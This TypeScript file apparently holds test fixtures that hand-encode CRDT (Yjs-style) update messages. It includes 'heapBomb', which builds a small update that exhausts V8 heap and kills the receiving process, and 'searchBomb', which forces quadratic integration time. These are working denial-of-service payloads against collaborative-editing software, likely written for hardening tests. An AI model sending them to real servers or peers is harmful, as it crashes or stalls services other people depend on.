// Updates that are small and valid, and cost whoever integrates them far more than they should.
import * as encoding from "lib0/encoding";

type Write = (encoder: encoding.Encoder) => void;

/** One client's structs, from clock 0, as one update. */
export const updateOf = (client: number, structs: readonly Write[], clock = 0): Uint8Array => {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, structs.length);
  encoding.writeVarUint(encoder, client);
  encoding.writeVarUint(encoder, clock);
  for (const write of structs) write(encoder);
  encoding.writeVarUint(encoder, 0);
  return encoding.toUint8Array(encoder);
};

const letter: Write = (encoder) => encoding.writeVarString(encoder, "x");

/** The first of its parent, which is a root. */
export const inRoot =
  (root: string, kind = 4, content: Write = letter): Write =>
  (encoder) => {
    encoding.writeUint8(encoder, kind);
    encoding.writeVarUint(encoder, 1);
    encoding.writeVarString(encoder, root);
    content(encoder);
  };

/** After this clock of the same client; with nothing known of what follows. */
export const behind =
  (client: number, clock: number, kind = 4, content: Write = letter): Write =>
  (encoder) => {
    encoding.writeUint8(encoder, kind | 128);
    encoding.writeVarUint(encoder, client);
    encoding.writeVarUint(encoder, clock);
    content(encoder);
  };

/** Of nobody's letters, so many in a row. */
export const contentFree =
  (length: number): Write =>
  (encoder) => {
    encoding.writeUint8(encoder, 0);
    encoding.writeVarUint(encoder, length);
  };

/** A node inside the node at this clock of the same client. */
export const nodeInside =
  (client: number, clock: number): Write =>
  (encoder) => {
    encoding.writeUint8(encoder, 7);
    encoding.writeVarUint(encoder, 0);
    encoding.writeVarUint(encoder, client);
    encoding.writeVarUint(encoder, clock);
    encoding.writeVarUint(encoder, 3);
    encoding.writeVarString(encoder, "p");
  };

export const node = (root: string): Write =>
  inRoot(root, 7, (encoder) => {
    encoding.writeVarUint(encoder, 3);
    encoding.writeVarString(encoder, "p");
  });

/**
 * Lists of one empty value each, which take sixty times as much heap as bytes. Few in a row: V8 ends the whole process,
 * and not the thread, over a single array that the heap has no room for.
 */
export const heapBomb = (client: number, size = 5_000_000): Uint8Array => {
  const inRow = 10_000;
  const lists: Write = (encoder) => {
    encoding.writeVarUint(encoder, inRow);
    for (let i = 0; i < inRow; i++) encoding.writeAny(encoder, [undefined]);
  };
  return updateOf(
    client,
    Array.from({ length: size / inRow }, (_, i) =>
      i === 0 ? inRoot("default", 8, lists) : behind(client, i * inRow - 1, 8, lists),
    ),
  );
};

const between =
  (client: number, left: number, right: number): Write =>
  (encoder) => {
    encoding.writeUint8(encoder, 4 | 128 | 64);
    for (const clock of [left, right]) {
      encoding.writeVarUint(encoder, client);
      encoding.writeVarUint(encoder, clock);
    }
    letter(encoder);
  };

/**
 * A row of letters, and then as many that stand somewhere between the first and a later one each, so that a place
 * for it has to be looked for through all the others: the time grows with the square of the size.
 */
export const searchBomb = (client: number, size: number): Uint8Array => {
  const row = Array.from({ length: size }, (_, i) => (i === 0 ? inRoot("default") : behind(client, i - 1)));
  const among = Array.from({ length: size }, (_, i) => between(client, 0, size - 1 - (i % (size - 2))));
  return updateOf(client, [...row, ...among]);
};
